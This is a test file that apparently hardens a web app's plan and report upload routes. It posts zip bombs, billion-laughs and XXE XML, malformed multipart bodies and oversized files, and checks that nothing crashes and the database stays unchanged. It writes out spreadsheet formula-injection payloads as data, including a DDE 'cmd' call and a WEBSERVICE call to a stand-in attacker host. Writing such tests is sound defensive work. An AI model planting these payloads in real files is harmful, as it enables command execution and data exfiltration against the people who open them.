@@ -1,0 +1,263 @@
+/**
+ * Hostile input through the upload routes, posted as real multipart Requests by a secretary:
+ * a representative subset of tests/hostile/generate.ts through /plans/import and another
+ * through /reports/import (plus report-shaped files with hostile cells). The action answers
+ * (400 or 413 with a message, or a preview for a file that parses) and never throws, and the
+ * database is exactly as before: row counts of every table, and a checksum of the plan rows.
+ */
+import crypto from 'node:crypto';
+import ExcelJS from 'exceljs';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { getDb } from '../db/client';
+import type { User } from '../db/schema';
+import { COLUMN_NUMBER, parseActivityKey } from '~/exports/report-layout.server';
+import { buildReportXlsx } from '~/exports/report-xlsx.server';
+import { importPlanIntoDatabase } from '~/models/plan-import.server';
+import { getReportData } from '~/models/report.server';
+import { recordStatusUpdate } from '~/models/status-update.server';
+import { action as planImport, MAX_IMPORT_BYTES } from '~/routes/plans.import';
+import { action as reportImport, loader as reportImportLoader } from '~/routes/reports.import';
+import { parsePlanFile } from '../importers';
+import { FORMULAS, hostileFiles, lovechXlsx, SCRIPTS, type HostileFile } from './hostile/generate';
+import { settle } from './hostile/settle';
+import { call, makeRequest, makeUser } from './helpers';
+
+const FILES = hostileFiles();
+const byId = (id: string) => FILES.find((f) => f.id === id)!;
+let secretary: User;
+let planId: number;
+
+function snapshot() {
+  const sqlite = getDb().$client;
+  const tables = (sqlite.prepare(`select name from sqlite_master where type = 'table' order by name`).all() as { name: string }[]).map((t) => t.name);
+  const counts = Object.fromEntries(tables.map((name) => [name, (sqlite.prepare(`select count(*) as n from "${name}"`).get() as { n: number }).n]));
+  const hash = crypto.createHash('sha256');
+  for (const table of ['plans', 'areas', 'measures', 'activities', 'activity_owners', 'status_updates']) {
+    const rows = (sqlite.prepare(`select * from ${table}`).raw().all() as unknown[][]).map((row) => JSON.stringify(row)).sort();
+    hash.update(rows.join('\n'));
+  }
+  return { counts, checksum: hash.digest('hex') };
+}
+
+function multipart(bytes: Uint8Array, fileName: string, path: string, fields: Record<string, string> = {}) {
+  const form = new FormData();
+  form.append('file', new File([Buffer.from(bytes)], fileName));
+  for (const [key, value] of Object.entries(fields)) form.append(key, value);
+  return makeRequest(path, { user: secretary, form });
+}
+
+/**
+ * Posts the file and checks what no hostile file may do: throw out of the action, hang, or
+ * change the database. Returns the response.
+ */
+async function postUnchanged(action: typeof planImport | typeof reportImport, request: Request) {
+  const before = snapshot(); // after makeRequest, which signs the user in (a session row)
+  const outcome = await settle(() => call(action, request));
+  expect(outcome.kind, outcome.kind === 'crashed' ? String((outcome.error as Error)?.stack) : '').toBe('parsed');
+  expect(snapshot()).toEqual(before);
+  return (outcome as { value: Response }).value;
+}
+
+/** Every n-th file that is not one of the large ones, plus the ones named. */
+function subset(every: number, named: string[], filter: (f: HostileFile) => boolean = () => true): HostileFile[] {
+  const small = FILES.filter((f) => !f.large && filter(f));
+  const picked = new Set([...small.filter((_, i) => i % every === 0), ...named.map(byId)]);
+  return [...picked];
+}
+
+beforeAll(async () => {
+  secretary = await makeUser('secretary');
+  const parsed = await parsePlanFile(lovechXlsx(), 'lovech-2022-2024.xlsx');
+  planId = importPlanIntoDatabase(parsed, { fileName: 'lovech-2022-2024.xlsx', title: 'План Ловеч', userId: secretary.id });
+  const first = getDb().$client.prepare('select id from activities where plan_id = ? order by id limit 1').get(planId) as { id: number };
+  recordStatusUpdate({ activityId: first.id, userId: secretary.id, status: 'in_progress', percent: 40, comment: 'Работи се.', completedOn: null });
+});
+
+const PLAN_ROUTE_FILES = subset(8, [
+  'zip-bomb/real-300mb-of-zeros',
+  'zip-bomb/entry-hidden-from-directory',
+  'zip-bomb/declares-100kb-unpacks-to-100mb',
+  'million-rows/empty-rows',
+  'million-rows/csv-lines',
+  'columns/column-xfd-on-every-row',
+  'long-cell/1mb-title-xlsx',
+  'xml/billion-laughs-shared-strings',
+  'xml/external-entity-xxe',
+  'xml/nested-300k-unclosed',
+  'xml/cell-without-ref',
+  'encoding/bom-only',
+  'encoding/nul-in-cell',
+  'extension/xlsx-named-csv',
+  'extension/csv-named-xlsx',
+  'extension/pdf-named-pdf',
+  'extension/name-with-newline',
+  'script/xlsx-shared-strings',
+  'formula/xlsx-formula-cells',
+  'dates/absurd-date-formatted',
+  'sheets/500-sheets',
+]);
+
+describe('POST /plans/import with hostile files', () => {
+  it('covers a representative subset', () => {
+    expect(PLAN_ROUTE_FILES.length).toBeGreaterThanOrEqual(40);
+    expect(new Set(PLAN_ROUTE_FILES.map((f) => f.category)).size).toBeGreaterThanOrEqual(15);
+  });
+
+  it.each(PLAN_ROUTE_FILES.map((file) => [file.id, file] as [string, HostileFile]))('%s', async (_id, file) => {
+    const response = await postUnchanged(planImport, await multipart(await file.bytes(), file.fileName, '/plans/import'));
+    expect([200, 400]).toContain(response.status);
+    const body = await response.json();
+    if (file.expect === 'refused') expect(response.status).toBe(400);
+    if (file.expect === 'parsed') expect(response.status).toBe(200);
+    if (response.status === 400) {
+      expect(body.error).toBe('importUnreadable');
+      expect(body.detail).toEqual(expect.any(String));
+      expect(body.detail).not.toMatch(/[\r\n]/);
+      if (/^[\w.]+$/.test(file.fileName)) expect(body.detail.startsWith(`${file.fileName}: `)).toBe(true);
+      if (file.message && /^[\w.]+$/.test(file.fileName)) expect(body.detail).toMatch(file.message);
+    } else {
+      expect(body.token).toEqual(expect.any(String));
+      for (const text of file.verbatim ?? []) expect(JSON.stringify(body)).toContain(JSON.stringify(text).slice(1, -1));
+    }
+  });
+
+  it.each(['large/50mb-csv', 'large/50mb-xlsx-stored', 'large/50mb-random'])('%s is refused with 413 before it is read', async (id) => {
+    const file = byId(id);
+    const bytes = await file.bytes();
+    expect(bytes.length).toBeGreaterThan(MAX_IMPORT_BYTES);
+    // As a browser sends it (with its length), and as a client that leaves the length out.
+    const request = await multipart(bytes, file.fileName, '/plans/import');
+    const withLength = new Request(request, { headers: new Headers([...request.headers, ['Content-Length', String(bytes.length + 300)]]) });
+    for (const req of [withLength, await multipart(bytes, file.fileName, '/plans/import')]) {
+      const response = await postUnchanged(planImport, req);
+      expect(response.status).toBe(413);
+      expect(await response.json()).toEqual({ error: 'importTooLarge' });
+    }
+  });
+
+  it('refuses a re-import of a hostile file into the existing plan, leaving the plan as it was', async () => {
+    for (const id of ['truncated/at-4599', 'xml/billion-laughs-sheet', 'million-rows/csv-lines']) {
+      const file = byId(id);
+      const response = await postUnchanged(planImport, await multipart(await file.bytes(), file.fileName, '/plans/import', { planId: String(planId) }));
+      expect(response.status).toBe(400);
+    }
+  });
+});
+
+/** A POST with the body given as it is, as a secretary. */
+async function rawPost(path: string, contentType: string, body: string) {
+  const signedIn = await makeRequest(path, { user: secretary, method: 'POST', headers: { 'Content-Type': contentType } });
+  return new Request(signedIn.url, { method: 'POST', headers: signedIn.headers, body });
+}
+
+function multipartBody(boundary: string, fileName: string, content: string) {
+  return `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: text/csv\r\n\r\n${content}\r\n--${boundary}--\r\n`;
+}
+
+describe('hostile multipart bodies', () => {
+  const boundary = '----hostile0123456789';
+  const type = `multipart/form-data; boundary=${boundary}`;
+  const routes = [
+    ['/plans/import', planImport, 'importUnreadable'],
+    ['/reports/import', reportImport, 'repImportUnreadable'],
+  ] as const;
+
+  it.each(routes)('%s: a file of 1.5 million CRLF lines arriving as one chunk', async (path, action) => {
+    // Remix's multipart parser spread each line into one call: "Maximum call stack size exceeded".
+    const response = await postUnchanged(action, await rawPost(path, type, multipartBody(boundary, 'plan.csv', '\r\n'.repeat(1_500_000))));
+    expect(response.status).toBe(400);
+  });
+
+  it.each(routes)('%s: a body cut off before its closing boundary', async (path, action, error) => {
+    const body = multipartBody(boundary, 'plan.csv', 'Мярка;Дейност;Начало\r\n'.repeat(100));
+    const response = await postUnchanged(action, await rawPost(path, type, body.slice(0, body.length - 40)));
+    expect(response.status).toBe(400);
+    expect(await response.json()).toEqual({ error, detail: expect.stringMatching(/cut off/) });
+  });
+
+  it.each(routes)('%s: multipart without a boundary, and a part without its disposition', async (path, action, error) => {
+    for (const request of [
+      await rawPost(path, 'multipart/form-data', 'x'),
+      await rawPost(path, type, `--${boundary}\r\nContent-Type: text/csv\r\n\r\nx\r\n--${boundary}--\r\n`),
+      await rawPost(path, type, `--${boundary}\r\nContent-Disposition: attachment; "\r\n\r\nx\r\n--${boundary}--\r\n`),
+    ]) {
+      const response = await postUnchanged(action, request);
+      expect(response.status).toBe(400);
+      expect((await response.json()).error).toBe(error);
+    }
+  });
+});
+
+/** The Q3 2023 report of the plan, with cells edited as in Excel (by activity key). */
+async function report(edit: (row: ExcelJS.Row) => void): Promise<Uint8Array> {
+  const exported = await buildReportXlsx(getReportData(planId, { kind: 'quarter', year: 2023, index: 3 }, { preparedBy: 'Секретар', today: '2026-01-15' })!, 'bg');
+  const book = new ExcelJS.Workbook();
+  await book.xlsx.load(exported as unknown as ArrayBuffer);
+  book.worksheets[1]!.eachRow((row) => {
+    if (parseActivityKey(String(row.getCell(COLUMN_NUMBER.key).value ?? ''))) edit(row);
+  });
+  return new Uint8Array(await book.xlsx.writeBuffer());
+}
+
+const REPORT_ROUTE_FILES = subset(30, ['zip-bomb/real-300mb-of-zeros', 'zip-bomb/entry-hidden-from-directory', 'million-rows/empty-rows', 'xml/billion-laughs-shared-strings', 'xml/nested-1m-distinct-names', 'long-cell/1mb-shared-string', 'columns/column-xfd-on-every-row', 'extension/xlsx-named-csv'], (f) => /\.xlsx$/i.test(f.fileName) || f.id === 'extension/xlsx-named-csv');
+
+describe('POST /reports/import with hostile files', () => {
+  it('covers a representative subset', () => {
+    expect(REPORT_ROUTE_FILES.length).toBeGreaterThanOrEqual(14);
+  });
+
+  it.each(REPORT_ROUTE_FILES.map((file) => [file.id, file] as [string, HostileFile]))('%s', async (_id, file) => {
+    const response = await postUnchanged(reportImport, await multipart(await file.bytes(), file.fileName, '/reports/import'));
+    // A file that is no report at all still previews (with the warning that no sheet is a report).
+    expect([302, 400]).toContain(response.status);
+    if (file.expect === 'refused') {
+      expect(response.status).toBe(400);
+      const body = await response.json();
+      expect(body.error).toBe('repImportUnreadable');
+      expect(body.detail).not.toMatch(/[\r\n]/);
+    }
+  });
+
+  const cases: [string, (row: ExcelJS.Row, n: number) => void][] = [
+    ['script in the status, report and key cells', (row, n) => {
+      row.getCell(COLUMN_NUMBER.status).value = SCRIPTS[n % SCRIPTS.length]!;
+      row.getCell(COLUMN_NUMBER.comment).value = SCRIPTS[(n + 1) % SCRIPTS.length]!;
+      if (n % 3 === 0) row.getCell(COLUMN_NUMBER.key).value = `ID-${SCRIPTS[0]}`;
+    }],
+    ['formula payloads in every status column', (row, n) => {
+      for (const column of ['status', 'percent', 'comment', 'completedOn', 'newEnd'] as const) row.getCell(COLUMN_NUMBER[column]).value = FORMULAS[n % FORMULAS.length]!;
+    }],
+    ['real formulas with cached results', (row) => {
+      row.getCell(COLUMN_NUMBER.status).value = { formula: "cmd|' /C calc'!A0", result: 'изпълнена' };
+      row.getCell(COLUMN_NUMBER.percent).value = { formula: 'WEBSERVICE("http://evil.example")', result: 0.5 };
+    }],
+    ['absurd dates and percentages', (row, n) => {
+      const absurd = [1e308, -1e308, -1, 0, 99999999, '31.02.2023', '01.01.0000', '1.1.99999', NaN, Infinity];
+      row.getCell(COLUMN_NUMBER.completedOn).value = absurd[n % absurd.length]!;
+      row.getCell(COLUMN_NUMBER.newEnd).value = absurd[(n + 3) % absurd.length]!;
+      row.getCell(COLUMN_NUMBER.percent).value = [1e308, -5, 101, 'NaN', '٣٠٪'][n % 5]!;
+      row.getCell(COLUMN_NUMBER.status).value = 'изпълнена';
+    }],
+    ['keys of activities of another plan, or none', (row, n) => {
+      row.getCell(COLUMN_NUMBER.key).value = n % 2 ? `ID-999999-${n}-0-0-0-0-0` : null;
+      row.getCell(COLUMN_NUMBER.status).value = 'изпълнена';
+    }],
+    ['32,767-character reports in every row', (row) => {
+      row.getCell(COLUMN_NUMBER.comment).value = 'я'.repeat(32_767);
+      row.getCell(COLUMN_NUMBER.status).value = 'в процес на изпълнение';
+    }],
+  ];
+
+  it.each(cases)('a report with %s previews, recording nothing', async (_name, edit) => {
+    let n = 0;
+    const bytes = await report((row) => edit(row, n++));
+    const response = await postUnchanged(reportImport, await multipart(bytes, 'отчет.xlsx', '/reports/import'));
+    expect(response.status).toBe(302);
+    const location = response.headers.get('Location')!;
+    const page = await call(reportImportLoader, await makeRequest(location, { user: secretary }));
+    const { preview } = await page.json();
+    expect(preview.fileName).toBe('отчет.xlsx');
+    // What the rows said comes back as text (shown escaped by React), never as markup or formulas run.
+    for (const row of preview.rows) expect(row.statusText).toEqual(expect.any(String));
+  });
+});
